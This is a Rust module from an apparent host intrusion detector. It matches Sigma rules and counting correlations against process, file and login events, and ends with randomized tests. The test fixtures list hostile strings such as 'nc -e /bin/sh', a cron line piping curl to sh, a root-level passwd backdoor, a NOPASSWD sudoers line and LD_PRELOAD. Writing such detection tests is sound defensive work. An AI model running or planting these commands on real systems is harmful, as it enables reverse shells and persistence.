//! Sigma: rules about single events, and correlations that count them.

use super::Detector;
use super::candidates::{Candidates, Shown};
use super::cost::{Cost, Watch};
use super::exceptions::Exception;
use super::fields::{self, Exec, Record, View};
use super::found::finding;
use super::rules::{Compiled, Correlation, Single};
use super::signature::{self, Verdict};
use super::threshold::{Counters, Kind, Table};
use super::topic::Topic;
use super::{Findings, grouping};
use crate::observation::Subject;
use picket_common::event::{AuthEvent, Event, ExecEvent, FileAction, FileEvent, Payload};
use picket_common::finding::RuleRef;
use rsigma_eval::compiler::eval_condition;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;

/// All loaded rules and the state of those that count.
pub struct Sigma {
    pub(super) singles: Vec<Single>,
    pub(super) correlations: Vec<Correlation>,
    candidates: Candidates,
    pub(super) table: Table,
    /// The first place in the table that no rule has had.
    next_slot: usize,
    /// The rules that an event meets; between two events it is empty.
    met: Vec<usize>,
    watch: Option<Watch>,
}

impl Sigma {
    /// Makes compiled rules ready to judge. `groups` bounds the state of all that count.
    pub(super) fn new(compiled: Compiled, groups: usize) -> Self {
        let (singles, correlations) = (compiled.singles, compiled.correlations);
        Self {
            candidates: Candidates::new(&singles),
            next_slot: correlations.len(),
            singles,
            correlations,
            table: Table::new(groups),
            met: Vec::new(),
            watch: None,
        }
    }

    /// Takes an exception from the rule that it names, by id or by title.
    pub(super) fn except(&mut self, exception: Exception) -> Result<(), String> {
        let singles = self.singles.iter_mut().map(|single| &mut single.meta);
        let correlations = self.correlations.iter_mut().map(|rule| &mut rule.meta);
        let name = exception.rule.as_str();
        let (mut by_id, mut by_title): (Vec<_>, Vec<_>) = singles
            .chain(correlations)
            .filter(|meta| meta.rule.id == name || meta.rule.title == name)
            .partition(|meta| meta.rule.id == name);
        let found = by_id.pop().map_or_else(|| by_title.pop(), Some);
        let shown = name.escape_debug();
        match (found, by_title.is_empty()) {
            (Some(meta), _) if meta.rule.id == name => meta.exceptions.push(exception),
            (Some(meta), true) => meta.exceptions.push(exception),
            (Some(_), false) => {
                return Err(format!("several rules are called '{shown}': name one by its id"));
            }
            (None, _) => return Err(format!("there is no rule with the id or title '{shown}'")),
        }
        Ok(())
    }

    /// Goes on counting where the rules that these take the place of have come to: correlations that count the same keep
    /// their groups.
    pub fn go_on_from(&mut self, old: Self) {
        let slots = old.correlations.iter().map(|rule| rule.slot);
        let mut gone: HashSet<usize> = slots.collect();
        let kept = old.correlations.iter().map(|rule| (&rule.definition, rule.slot));
        let mut kept: HashMap<_, _> = kept.collect();
        self.next_slot = old.next_slot;
        for rule in &mut self.correlations {
            // Two without an id may be alike: only one can go on.
            rule.slot = kept.remove(&rule.definition).unwrap_or(self.next_slot);
            if !gone.remove(&rule.slot) {
                self.next_slot += 1;
            }
        }
        self.table = old.table;
        self.table.forget(&gone);
    }

    /// Whether the rule at that place among those about single events matches: what [`Detector::inspect`] does for one.
    pub(super) fn matches(&self, at: usize, event: &Event) -> bool {
        let mut met = Vec::new();
        self.meet(event, &mut met);
        met.contains(&at)
    }

    /// Adds the rules about single events that an event meets.
    fn meet(&self, event: &Event, met: &mut Vec<usize>) {
        let some = |rules: &[usize], view: &View<'_>, met: &mut Vec<usize>| {
            self.ask(rules.iter().copied(), view, met);
        };
        match &event.payload {
            Payload::Auth(auth) => {
                let rules = self.candidates.logins(auth).iter().copied();
                met.extend(rules.filter(|at| {
                    self.singles
                        .get(*at)
                        .is_some_and(|single| single.fits(auth, self.watch))
                }));
            }
            Payload::Exec(exec) => self.meet_program(exec, met),
            Payload::Connect(connect) => some(&self.candidates.connections, &View::Connect(connect), met),
            Payload::Exit(exit) => some(&self.candidates.exits, &View::Exit(exit), met),
            Payload::Privilege(privilege) => {
                some(&self.candidates.privileges, &View::Privilege(privilege), met)
            }
            Payload::Signal(signal) => some(&self.candidates.signals, &View::Signal(signal), met),
            Payload::File(file) => self.meet_file(file, met),
            // A sum of what rules have met one by one.
            Payload::Install(_) => {}
        }
    }

    fn meet_program(&self, event: &ExecEvent, met: &mut Vec<usize>) {
        let candidates = &self.candidates;
        // What is put together from the parts of a program is put together but once for all rules.
        let exec = Exec::new(event);
        let parent = event.ancestors.first();
        let parent = parent
            .and_then(|parent| parent.executable.as_deref())
            .unwrap_or_default();
        let mut text = event.executable.to_lowercase();
        let (own, line) = (text.len(), exec.command_line());
        text.extend(["\n", &parent.to_lowercase()]);
        let both = text.len();
        text.extend(["\n", &line.to_lowercase()]);
        let mut shown = Shown {
            name: name(text.get(..own).unwrap_or_default()),
            parent: name(text.get(own + 1..both).unwrap_or_default()),
            text: &text,
        };
        let mut found = Vec::with_capacity(16);
        candidates.programs.find(&shown, &mut found);
        self.ask(found.drain(..), &View::Exec(&exec), met);
        if !candidates.syscalls.is_empty() {
            candidates.syscalls.find(&shown, &mut found);
            self.ask(found.drain(..), &View::Audit(&exec, Record::Syscall), met);
        }
        if !candidates.execves.is_empty() {
            let first = event.args.first().map(|first| first.to_lowercase());
            shown.name = first.as_deref().unwrap_or_default();
            candidates.execves.find(&shown, &mut found);
            self.ask(found.drain(..), &View::Audit(&exec, Record::Execve), met);
        }
    }

    fn meet_file(&self, file: &FileEvent, met: &mut Vec<usize>) {
        let rules = match file.action {
            FileAction::Attributes => &self.candidates.attributes,
            FileAction::Written | FileAction::Moved | FileAction::Found => &self.candidates.files,
        };
        if rules.is_empty() {
            return;
        }
        let writer = file.writer.as_deref();
        let writer = writer.and_then(|writer| writer.executable.as_deref());
        let (path, writer) = (
            file.path.to_lowercase(),
            writer.unwrap_or_default().to_lowercase(),
        );
        let kind = file.change.as_ref().map_or("", |change| change.kind.as_str());
        let shown = Shown {
            name: name(&path),
            parent: name(&writer),
            text: &[path.as_str(), &writer, kind].join("\n"),
        };
        let mut found = Vec::with_capacity(16);
        rules.find(&shown, &mut found);
        self.ask(found.drain(..), &View::File(file), met);
    }

    /// Adds those of the rules that match, once each.
    fn ask(&self, rules: impl Iterator<Item = usize>, view: &View<'_>, met: &mut Vec<usize>) {
        for at in rules {
            if self
                .singles
                .get(at)
                .is_some_and(|single| single.asked(view, self.watch))
                && !met.contains(&at)
            {
                met.push(at);
            }
        }
    }

    /// Lets go of what rules are matched by that are about something no sensor sees.
    pub fn only(mut self, is_seen: impl Fn(Subject) -> bool) -> Self {
        for single in &mut self.singles {
            if !is_seen(single.topic.needs()) {
                single.compiled.detections = HashMap::new();
                single.compiled.conditions = Vec::new();
                single.topic = Topic::Others;
            }
        }
        self.candidates = Candidates::new(&self.singles);
        self
    }

    /// How many rules are loaded, without those that were let go of.
    pub fn rules(&self) -> usize {
        let held = |single: &&Single| !single.compiled.conditions.is_empty();
        self.singles.iter().filter(held).count() + self.correlations.len()
    }

    /// From now on it is measured how long rules take, or is not any more.
    pub fn measure(&mut self, watch: Option<Watch>) {
        self.watch = watch;
    }

    /// What each rule costs, as it goes on.
    pub fn costs(&self) -> Vec<(RuleRef, Arc<Cost>)> {
        let singles = self.singles.iter().map(|single| &single.meta);
        let all = singles.chain(self.correlations.iter().map(|rule| &rule.meta));
        all.map(|meta| (meta.rule.clone(), Arc::clone(&meta.cost)))
            .collect()
    }

    /// How many groups are kept at the moment.
    pub fn groups(&self) -> usize {
        self.table.len()
    }

    /// What the bounded state had to leave out.
    pub fn counters(&self) -> Counters {
        self.table.counters
    }
}

impl Detector for Sigma {
    fn name(&self) -> &'static str {
        "sigma"
    }

    fn describe(&self) -> &'static str {
        "judges events by Sigma rules, and counts them by Sigma correlations"
    }

    fn inspect(&mut self, event: &Event, findings: &mut Findings) {
        // What a package manager wrote of its own is what it should be.
        if let Payload::File(file) = &event.payload
            && file.package_manager
            && file.package.is_some()
        {
            return;
        }
        let mut met = std::mem::take(&mut self.met);
        self.meet(event, &mut met);
        for at in met.drain(..) {
            let Some(single) = self.singles.get(at) else {
                continue;
            };
            single.meta.cost.matched();
            if single.meta.exceptions.hold_back(event) {
                continue;
            }
            if single.meta.reports {
                let found = finding(&single.meta, event, Vec::new(), None, vec![event.id]);
                findings.found.push(found);
            }
            count(
                &self.correlations,
                &mut self.table,
                &single.counted_by,
                event,
                findings,
            );
        }
        self.met = met;
    }
}

impl Single {
    fn fits(&self, auth: &AuthEvent, watch: Option<Watch>) -> bool {
        let Topic::Logins { verdicts, program } = &self.topic else {
            return false;
        };
        let other = program.as_ref().is_some_and(|program| *program != auth.program);
        match verdicts.get(signature::of(auth)) {
            _ if other => false,
            Some(Verdict::Yes) => true,
            Some(Verdict::Ask) => self.asked(&View::Auth(auth), watch),
            _ => false,
        }
    }

    fn asked(&self, view: &View<'_>, watch: Option<Watch>) -> bool {
        let compiled = &self.compiled;
        let ask = || {
            let mut conditions = compiled.conditions.iter();
            conditions.any(|condition| eval_condition(condition, &compiled.detections, view, &mut Vec::new()))
        };
        let Some(watch) = watch else { return ask() };
        let began = watch();
        let matches = ask();
        self.meta.cost.add(watch().saturating_sub(began));
        matches
    }
}

/// Counts an event in each of the correlations, and what fires in those that count them in turn. Ends, as a correlation
/// counts only what was there before it.
fn count(
    correlations: &[Correlation],
    table: &mut Table,
    counted_by: &[(usize, usize)],
    event: &Event,
    findings: &mut Findings,
) {
    for (at, step) in counted_by {
        let Some(correlation) = correlations.get(*at) else {
            continue;
        };
        // An event that lacks what is grouped by belongs to no group.
        let Some(key) = grouping::key(correlation, *step, event) else {
            continue;
        };
        if correlation.meta.exceptions.hold_back(event) {
            continue;
        }
        let hit = grouping::hit(correlation, *step, event);
        findings.counted = true;
        let fired = table.hit(correlation.slot, key, &correlation.kind, correlation.span, &hit);
        let Some(fired) = fired else {
            continue;
        };
        correlation.meta.cost.matched();
        if correlation.meta.reports {
            let names = correlation.groups.get(*step).into_iter().flatten();
            let group =
                names.filter_map(|name| Some((name.clone(), fields::text(event, name)?.into_owned())));
            // Of steps, each happened: how many there are tells nobody how often.
            let counts = matches!(correlation.kind, Kind::EventCount(_) | Kind::ValueCount(..));
            let count = counts.then_some(fired.count);
            let found = finding(&correlation.meta, event, group.collect(), count, fired.events);
            findings.found.push(found);
        }
        self::count(correlations, table, &correlation.counted_by, event, findings);
    }
}

/// The last part of a path.
fn name(path: &str) -> &str {
    path.rsplit_once('/').map_or(path, |(_, name)| name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{Sources, load};
    use crate::history::LastGood;
    use picket_common::event::{Ancestor, Credentials};
    use picket_common::process::ProcessId;
    use picket_common::time::Timestamp;
    use std::path::PathBuf;

    const SHIPPED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../packaging/rules/sigma");
    /// Rules that lean on every way by which they are found.
    const MORE: &str = "title: t1
logsource: {product: linux, category: process_creation}
detection: {a: {Image|endswith: [/Curl, /nc]}, b: {ParentImage|endswith: /nginx, User: root}, condition: a or b}
---
title: t2
logsource: {product: linux, category: process_creation}
detection: {a: {Image|startswith: /tmp/, CommandLine|re: '(?i)kill|\\.SH'}, b: {CurrentDirectory: /}, condition: a or b}
---
title: t3
logsource: {product: linux, service: auditd}
detection: {a: {type: EXECVE, a0: curl, a1|startswith: '-'}, b: {type: SYSCALL, comm: nc, euid: 0}, condition: a or b}
---
title: t4
logsource: {product: linux, service: auditd}
detection: {a: {type: EXECVE}, b: {'|all': [id, '-u']}, condition: a and b}
---
title: t5
logsource: {product: linux, service: auditd}
detection: {a: {a2|contains: Bash}, b: {exe|startswith: /tmp}, c: {key: x}, condition: 1 of them}
---
title: t6
logsource: {product: linux, category: file_event}
detection: {a: {file.name: [ZZ, x.php]}, b: {process.name: redis-server}, c: {file.directory|endswith: /Cron.d}, condition: (a and b) or (c and not b)}
---
title: t7
logsource: {product: linux, category: file_event}
detection: {a: {TargetFilename: /tmp/zz, event.action: attributes}, b: {file.mode|startswith: '4', Image|endswith: /sh}, condition: 1 of them}
---
title: t8
logsource: {product: linux, category: file_event}
detection: {a: ['/Tmp/x', curl], condition: a}
";

    fn loaded() -> Sigma {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("more.yml"), MORE).unwrap();
        let folders = [PathBuf::from(SHIPPED), folder.path().to_owned()];
        let sources = Sources {
            rules: &folders,
            exceptions: None,
            groups: 100,
            indicators: None,
            indicators_before: Default::default(),
            before: &[],
        };
        let loaded = load(&sources, &mut LastGood::default(), Timestamp::default());
        assert_eq!(loaded.problems, []);
        loaded.sigma
    }

    #[test]
    fn no_rule_is_passed_over_that_would_match() {
        let sigma = self::loaded();
        let mut random = fastrand::Rng::with_seed(7);
        let (mut matched, names) = (
            HashSet::new(),
            [
                "curl",
                "CURL",
                "nc",
                "nginx",
                "bash",
                "x\n/bin/nc",
                "\u{130}d",
                "id",
            ],
        );
        let words = [
            "curl",
            "-u",
            "id",
            "|",
            "bash",
            "Kill",
            "x.sh",
            "\u{212a}ill",
            "http://a",
            "stratum+tcp://b",
            "-o",
            "SH",
            "a b",
            "",
            "nc -e /bin/sh",
            "/etc/ld.so.preload",
            "unset HISTFILE",
            "base64 -d",
        ];
        let folders = ["/tmp/", "/usr/bin/", "/dev/shm/", "", "/TMP/"];
        for _ in 0..20_000 {
            let mut path = || {
                format!(
                    "{}{}",
                    random.choice(folders).unwrap(),
                    random.choice(names).unwrap()
                )
            };
            let (executable, parent) = (path(), path());
            let args = (0..random.usize(..5))
                .map(|_| (*random.choice(&words).unwrap()).into())
                .collect();
            let ancestor = Ancestor {
                process: ProcessId::uncertain(1),
                executable: Some(parent.into()),
                command_line: None,
            };
            let exec = ExecEvent {
                args,
                working_directory: random.bool().then(|| "/".into()),
                ancestors: random.bool().then_some(ancestor).into_iter().collect(),
                user: random.bool().then(|| "root".into()),
                ..ExecEvent::new(ProcessId::uncertain(7), &executable, Credentials::default())
            };
            let mut met = Vec::new();
            sigma.meet_program(&exec, &mut met);
            met.sort_unstable();
            let view = Exec::new(&exec);
            let all = (0..sigma.singles.len()).filter(|at| {
                let single = &sigma.singles[*at];
                let record = |record| single.asked(&View::Audit(&view, record), None);
                match single.topic {
                    Topic::Programs => single.asked(&View::Exec(&view), None),
                    Topic::Audit => record(Record::Syscall) || record(Record::Execve),
                    _ => false,
                }
            });
            assert_eq!(met, all.collect::<Vec<_>>(), "{exec:?}");
            matched.extend(met);
        }
        assert!(matched.len() > 10, "{matched:?}");
    }

    #[test]
    fn no_rule_about_files_is_passed_over_that_would_match() {
        use picket_common::event::{ChangeKind, FileChange, FileEvent, Program};
        let sigma = loaded();
        let mut random = fastrand::Rng::with_seed(7);
        let folders = [
            "/etc/",
            "/etc/cron.d/",
            "/tmp/",
            "/var/www/x/Uploads/",
            "/usr/bin/",
            "/HOME/a/.ssh/",
            "/etc/sudoers.d/",
        ];
        let names = [
            "ld.so.preload",
            "x.PHP",
            "a.php.jpg",
            "zz",
            "Sudoers",
            "passwd",
            "x.service",
            "rc",
            ".htaccess",
        ];
        let writers = ["/usr/sbin/php-fpm8.2", "/bin/sh", "/usr/bin/Redis-server", ""];
        let lines = [
            "* * * * * root curl x | sh",
            "LD_PRELOAD=/x",
            "toor:x:0:0::/:/bin/sh",
            "x ALL=(ALL) NOPASSWD: ALL",
            "Exec=/tmp/x",
            "x: no password",
        ];
        let mut matched = HashSet::new();
        for _ in 0..20_000 {
            let path = format!(
                "{}{}",
                random.choice(folders).unwrap(),
                random.choice(names).unwrap()
            );
            let action = *random.choice(FileAction::ALL).unwrap();
            let mut file = FileEvent::new(path, action);
            let mut writer = Program::unknown(ProcessId::uncertain(7));
            writer.executable = Some((*random.choice(&writers).unwrap()).into());
            file.writer = random.bool().then(|| writer.into());
            file.mode = *random.choice(&[None, Some(0o644), Some(0o4755)]).unwrap();
            file.package = random.bool().then(|| "x".into());
            if random.bool() {
                let mut change = FileChange::new(*random.choice(ChangeKind::ALL).unwrap());
                change.added = vec![(*random.choice(&lines).unwrap()).into()];
                change.added_count = 1;
                file.change = Some(change.into());
            }
            let mut met = Vec::new();
            sigma.meet_file(&file, &mut met);
            met.sort_unstable();
            let all = (0..sigma.singles.len()).filter(|at| {
                let single = &sigma.singles[*at];
                match single.topic {
                    Topic::Files { attributes } => {
                        (attributes || action != FileAction::Attributes)
                            && single.asked(&View::File(&file), None)
                    }
                    _ => false,
                }
            });
            assert_eq!(met, all.collect::<Vec<_>>(), "{file:?}");
            matched.extend(met);
        }
        assert!(matched.len() > 12, "{matched:?}");
    }
}
